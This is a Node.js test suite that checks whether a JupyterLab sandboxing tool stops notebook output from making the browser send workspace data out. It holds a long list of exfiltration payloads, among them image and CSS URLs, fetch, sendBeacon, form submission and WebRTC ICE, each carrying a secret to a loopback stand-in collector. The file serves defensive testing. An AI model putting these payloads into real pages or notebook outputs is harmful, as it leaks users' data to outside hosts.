// What output may make the learner's browser send, in JupyterLab 4 (or Notebook 7: BELLJAR_FRONTEND)
// in headless Chromium. The kernel allows no host, so nothing an output does may carry the
// session's data anywhere but the notebook server's own assets (docs/security.md, "Active output
// in the browser"). A collector on 127.0.0.1 — an HTTP server and a UDP socket on a port of their
// own — records every connection, request, upgrade and datagram. A notebook reads a workspace
// file and shows it through every way we know of making a browser load something: navigation of
// the frame, the top and a popup, meta refresh, forms, images, srcset, CSS url()/@import/
// image-set/@font-face, SVG href, <object>/<embed>/<iframe>, <base>, link rel=prefetch/preload/
// preconnect/dns-prefetch/prerender, media, ping, fetch/WebSocket/EventSource/sendBeacon/Worker,
// WebRTC ICE, Vega and Vega-Lite data URLs, Plotly images, GeoJSON tiles, a URL widget image.
// The collector must receive nothing. The control runs the same vectors on an `allow` kernel,
// each HTML vector in a frame without a sandbox, against a second collector: those listed in
// CONTROL_REACHES must reach it, so the probes work and the test can fail.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';

import {
  BELLJAR, FRONTENDS, ISOLATION, LAB_FRONTENDS, PANEL, SANDBOX_PYTHON, SOURCE, allCellsRan, endSuite,
  installOutputKernels, labMenu, launchChromium, notebookJson, openInLab, startJupyterLab, whenPage, withDeadline,
} from './harness.mjs';

const FRONTEND = LAB_FRONTENDS[process.env.BELLJAR_FRONTEND ?? 'lab'];
assert.ok(FRONTEND, `BELLJAR_FRONTEND is lab or notebook, not ${process.env.BELLJAR_FRONTEND}`);
const RUN_ALL_TIMEOUT = 180_000;
const SECRET = 'belljar-workspace-data-7f3a';

// @C@ is the collector's origin and @D@ the workspace file's contents, put in by the cell.
const at = (vector) => `@C@/${vector}?d=@D@`;
const script = (code) => `<script>${code}</script>`;

// HTML vectors: each, in the page or a frame, makes the browser load `at(its name)` on render,
// with no click (a script clicks where a click is needed).
const HTML_VECTORS = {
  'meta-refresh': `<meta http-equiv="refresh" content="0;url=${at('meta-refresh')}">`,
  'location-self': script(`location.href = '${at('location-self')}'`),
  'window-open': script(`window.open('${at('window-open')}')`),
  'form-submit': `<form id="f" action="@C@/form-submit" target="_blank"><input name="d" value="@D@"></form>${script('f.submit()')}`,
  'form-self-button': `<form action="@C@/form-self-button"><input name="d" value="@D@"><button id="b">go</button></form>${script('b.click()')}`,
  'a-ping': `<a id="p" href="#x" ping="${at('a-ping')}">x</a>${script('p.click()')}`,
  'a-click': `<a id="l" href="${at('a-click')}" target="_blank">x</a>${script('l.click()')}`,
  'img-src': `<img src="${at('img-src')}">`,
  'img-srcset': `<img srcset="${at('img-srcset')} 1x">`,
  'picture-source': `<picture><source srcset="${at('picture-source')}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>`,
  'input-image': `<input type="image" src="${at('input-image')}">`,
  'table-background': `<table background="${at('table-background')}"><tr><td>x</td></tr></table>`,
  'video-poster': `<video poster="${at('video-poster')}"></video>`,
  'audio-src': `<audio src="${at('audio-src')}" autoplay></audio>`,
  'video-source-track': `<video autoplay><source src="${at('video-source')}"><track default src="${at('video-track')}"></video>`,
  'script-src': `<script src="${at('script-src')}"></script>`,
  'link-stylesheet': `<link rel="stylesheet" href="${at('link-stylesheet')}">`,
  'link-prefetch': `<link rel="prefetch" href="${at('link-prefetch')}">`,
  'link-preload': `<link rel="preload" as="image" href="${at('link-preload')}">`,
  'link-modulepreload': `<link rel="modulepreload" href="${at('link-modulepreload')}">`,
  'link-prerender': `<link rel="prerender" href="${at('link-prerender')}">`,
  'link-preconnect': '<link rel="preconnect" href="@C@">',
  'link-dns-prefetch': '<link rel="dns-prefetch" href="@C@">',
  'link-icon': `<link rel="icon" href="${at('link-icon')}">`,
  'css-import': `<style>@import url("${at('css-import')}");</style>`,
  'css-url': `<div style="width:9px;height:9px;background:url('${at('css-url')}')"></div>`,
  'css-image-set': `<div style="width:9px;height:9px;background-image:image-set('${at('css-image-set')}' 1x)"></div>`,
  'css-src-function': `<div style="width:9px;height:9px;background-image:src('${at('css-src-function')}')"></div>`,
  'css-font-face': `<style>@font-face{font-family:bjx;src:url("${at('css-font-face')}")}</style><span style="font-family:bjx">x</span>`,
  'css-cursor-list': `<ul style="list-style-image:url('${at('css-list')}');cursor:url('${at('css-cursor')}'),auto"><li>x</li></ul>`,
  'svg-image-href': `<svg width="9" height="9"><image href="${at('svg-image-href')}" width="9" height="9"/><image xlink:href="${at('svg-image-xlink')}" width="9" height="9"/></svg>`,
  'svg-use-external': `<svg width="9" height="9"><use href="${at('svg-use-external')}#x"/></svg>`,
  'svg-fe-image': `<svg width="9" height="9"><filter id="fi"><feImage href="${at('svg-fe-image')}"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>`,
  'object-data': `<object data="${at('object-data')}"></object>`,
  'embed-src': `<embed src="${at('embed-src')}">`,
  'iframe-src': `<iframe src="${at('iframe-src')}"></iframe>`,
  'iframe-srcdoc-refresh': `<iframe srcdoc="&lt;meta http-equiv=refresh content='0;url=${at('iframe-srcdoc-refresh')}'&gt;"></iframe>`,
  'base-href': `<base href="@C@/"><img src="base-href?d=@D@">`,
  'fetch': script(`fetch('${at('fetch')}', {mode: 'no-cors'}).catch(() => {})`),
  'xhr': script(`const x = new XMLHttpRequest(); x.open('GET', '${at('xhr')}'); x.send()`),
  'websocket': script(`new WebSocket('${at('websocket').replace('@C@', '@W@')}')`),
  'event-source': script(`new EventSource('${at('event-source')}')`),
  'send-beacon': script(`navigator.sendBeacon('${at('send-beacon')}', '@D@')`),
  'worker': script(`new Worker('${at('worker')}')`),
  'dynamic-import': script(`import('${at('dynamic-import')}').catch(() => {})`),
  'js-image': script(`new Image().src = '${at('js-image')}'`),
  'top-navigation': script(`top.location = '${at('top-navigation')}'`),
  // ICE: a STUN binding request (UDP) and a TURN allocation over TCP, the username the data.
  'webrtc': script(`const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:@H@'},
    {urls: 'turn:@H@?transport=tcp', username: '@D@', credential: 'x'}]});
    pc.createDataChannel('d'); pc.createOffer().then((o) => pc.setLocalDescription(o));`),
};
// Vectors that would take the JupyterLab page itself away in the control (no frame holds them
// there): run only on the default kernel.
const NOT_IN_CONTROL = ['top-navigation'];

// The other outputs that can name a URL: JupyterLab's renderers for JSON mime types (it ships
// Vega 5 and Vega-Lite; Plotly's and GeoJSON's renderers come with packages a learner may add),
// an SVG image, markdown and LaTeX, a widget.
const PY_VECTORS = {
  'vega-data': `show_json('application/vnd.vega.v5+json', {"$schema": "https://vega.github.io/schema/vega/v5.json",
 "width": 50, "height": 50, "data": [{"name": "t", "url": "${at('vega-data')}", "format": {"type": "csv"}}],
 "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "${at('vega-image')}"}, "width": {"value": 9}, "height": {"value": 9}}}}]})`,
  'vegalite-data': `show_json('application/vnd.vegalite.v5+json', {"$schema": "https://vega.github.io/schema/vega-lite/v5.json",
 "data": {"url": "${at('vegalite-data')}", "format": {"type": "csv"}}, "mark": "point", "encoding": {"x": {"field": "a"}}})`,
  'vegalite-image': `show_json('application/vnd.vegalite.v4+json', {"data": {"values": [{"u": "${at('vegalite-image')}"}]},
 "mark": {"type": "image", "width": 9, "height": 9}, "encoding": {"url": {"field": "u", "type": "nominal"}}})`,
  'plotly-image': `show_json('application/vnd.plotly.v1+json', {"data": [], "layout": {"images": [{"source": "${at('plotly-image')}",
 "x": 0, "y": 0, "sizex": 1, "sizey": 1}]}})`,
  'geojson-tiles': `show_json('application/geo+json', {"type": "Point", "coordinates": [0, 0]}, {"application/geo+json":
 {"layer_options": {}, "url_template": "${at('geojson-tiles')}&z={z}"}})`,
  'svg-document': `show_json('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${at('svg-document')}" width="9" height="9"/></svg>')`,
  'markdown-image': `show_json('text/markdown', '![x](${at('markdown-image')})')`,
  'widget-url-image': `import ipywidgets as w\nw.Image(value=sub('${at('widget-url-image')}').encode(), format='url')`,
};

// What the control's collector must get (each, at least): the probe reaches a collector from
// outside a sandboxed frame. Vectors Chromium or JupyterLab refuse on their own are not listed.
const CONTROL_REACHES = ['meta-refresh', 'location-self', 'img-src', 'img-srcset', 'css-url', 'css-import',
  'script-src', 'link-stylesheet', 'fetch', 'xhr', 'send-beacon', 'js-image', 'iframe-src', 'object-data',
  'form-submit', 'window-open', 'svg-image-href', 'base-href', 'vega-data', 'vegalite-data'];

// The notebook: a cell that reads the workspace file, then one cell per vector. For the control
// (framed), each HTML vector is put in a frame without a sandbox.
function cellsFor(collectorPort, framed) {
  const prelude = `import json, html
open('secret.txt', 'w').write(${JSON.stringify(SECRET)})
DATA = open('secret.txt').read()
def sub(text):
    return (text.replace('@C@', 'http://127.0.0.1:${collectorPort}').replace('@W@', 'ws://127.0.0.1:${collectorPort}')
            .replace('@H@', '127.0.0.1:${collectorPort}').replace('@D@', DATA))
def show(markup):
    markup = sub(markup)
    if ${framed ? 'True' : 'False'}:
        markup = '<iframe style="width:40px;height:40px" srcdoc="' + html.escape(markup) + '"></iframe>'
    display({'text/html': markup, 'text/plain': 'vector'}, raw=True)
def show_json(mime, value, metadata=None):
    value = json.loads(sub(json.dumps(value)))
    display({mime: value, 'text/plain': 'vector'}, metadata=metadata or {}, raw=True)`;
  const cells = { prelude };
  for (const [id, markup] of Object.entries(HTML_VECTORS))
    if (!(framed && NOT_IN_CONTROL.includes(id))) cells[id] = `show(${JSON.stringify(markup)})`;
  return { ...cells, ...PY_VECTORS };
}


// An HTTP server and a UDP socket on one loopback port: everything that arrives is recorded.
async function startCollector() {
  const heard = [];
  const listeners = new Set();
  const hear = (line) => {
    heard.push(line);
    for (const listener of listeners) listener();
  };
  const server = http.createServer((request, response) => {
    hear(`${request.method} ${request.url}`);
    response.writeHead(204);
    response.end();
  });
  server.on('connection', (socket) => {
    hear('connection');
    socket.on('error', () => {});
  });
  server.on('upgrade', (request, socket) => {
    hear(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address();
  const udp = dgram.createSocket('udp4');
  udp.on('message', (message) => hear(`datagram of ${message.length} bytes`));
  await new Promise((resolve, reject) => {
    udp.once('error', reject);
    udp.bind(port, '127.0.0.1', resolve);
  });
  return {
    port, heard, listeners,
    reached: () => new Set(heard.map((line) => line.match(/^\w+ \/([\w-]+)/)?.[1]).filter(Boolean)),
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      await new Promise((resolve) => udp.close(resolve));
    },
  };
}

describe(`what output may make the browser send, in ${FRONTEND.title} in headless Chromium`, () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), `belljar-egress-${FRONTEND.app}-`));
  const dirs = Object.fromEntries(['home', 'runtime', 'config', 'data', 'prefix', 'notebooks', 'chromium', 'settings',
    'workspaces'].map((name) => [name, path.join(tmp, name)]));
  const token = crypto.randomBytes(24).toString('hex');
  let server, context, base, collector, controlCollector;
  let shown = {};

  before(async () => {
    try {
      await withDeadline((async () => {
        for (const dir of Object.values(dirs)) fs.mkdirSync(dir, { recursive: true });
        fs.chmodSync(dirs.notebooks, 0o777);
        installOutputKernels(dirs.prefix, SANDBOX_PYTHON, ISOLATION);
        collector = await startCollector();
        controlCollector = await startCollector();
        ({ server, base } = await startJupyterLab({ frontend: FRONTEND, frontends: FRONTENDS, dirs, token }));
        context = await launchChromium(dirs.chromium);
        shown = await runNotebook('vectors.ipynb', 'belljar', cellsFor(collector.port, false));
        // The control runs after: by the time its collector has heard every vector it must,
        // the default kernel's page has had as long to send anything.
        await runNotebook('control.ipynb', 'belljar-allow', cellsFor(controlCollector.port, true));
        await new Promise((resolve, reject) => {
          const check = () => {
            if (!CONTROL_REACHES.every((id) => controlCollector.reached().has(id))) return;
            controlCollector.listeners.delete(check);
            clearTimeout(limit);
            resolve();
          };
          const limit = setTimeout(() => {
            controlCollector.listeners.delete(check);
            reject(new Error(`the control's collector heard only: ${[...controlCollector.reached()].sort().join(', ')}`));
          }, 30_000);
          controlCollector.listeners.add(check);
          check();
        });
      })(), 420_000, 'setting up and running both notebooks');
    } catch (error) {
      error.message += `\n--- jupyter ${FRONTEND.app} log (its end) ---\n${(server?.log ?? '').slice(-4000)}`;
      throw error;
    }
  });

  // Opens the notebook, runs every cell, and waits until every frame of the page has loaded
  // (its subresources fetched or refused). Returns each cell's output text.
  async function runNotebook(file, kernel, cells) {
    fs.writeFileSync(path.join(dirs.notebooks, file), notebookJson(cells, kernel));
    const page = await context.newPage();
    await openInLab(page, { base, token, frontend: FRONTEND, file, workspace: path.basename(file, '.ipynb'), timeoutMs: 90_000 });
    await labMenu(page, 'Run', 'Run All Cells');
    await whenPage(page, 'Run All', allCellsRan, PANEL, RUN_ALL_TIMEOUT);
    for (const frame of page.frames())
      await frame.waitForFunction(() => document.readyState === 'complete', null, { timeout: 30_000 }).catch(() => {});
    const texts = await page.$$eval(`${PANEL} .jp-CodeCell`,
      (elements) => elements.map((cell) => cell.querySelector('.jp-Cell-outputArea')?.innerText ?? ''));
    return Object.fromEntries(Object.keys(cells).map((id, i) => [id, texts[i]]));
  }

  after(async () => {
    process.stdout.write(`default kernel's collector: ${JSON.stringify(collector?.heard)}\n` +
      `control's collector reached by: ${JSON.stringify([...(controlCollector?.reached() ?? [])].sort())}\n`);
    await endSuite({ context, server, base, token, tmp });
    await collector?.close();
    await controlCollector?.close();
  });

  it('the collector heard nothing from any vector: no connection, request or datagram (no host allowed)', () => {
    assert.deepEqual(collector.heard, [], `what reached the collector: ${collector.heard.join('; ')}`);
  });

  it('every vector was shown, in an isolated frame or as text, with belljar saying so', () => {
    for (const id of [...Object.keys(HTML_VECTORS), ...Object.keys(PY_VECTORS)])
      assert.match(shown[id] ?? '', /\[belljar\]/, `${id}: ${shown[id]}`);
    for (const id of ['vega-data', 'vegalite-data', 'vegalite-image', 'plotly-image', 'geojson-tiles', 'markdown-image'])
      assert.match(shown[id], /not rendered \(active output, --active-output isolate\)/, id);
  });

  it('control: outside a sandboxed frame the same vectors reach a collector', () => {
    const reached = controlCollector.reached();
    for (const id of CONTROL_REACHES) assert.ok(reached.has(id), `${id}: ${[...reached].sort().join(', ')}`);
    assert.ok(controlCollector.heard.some((line) => line.includes(SECRET)), 'the workspace data was in a request');
    assert.ok(controlCollector.heard.some((line) => line.startsWith('datagram')), 'WebRTC\'s STUN request arrived');
  });
});
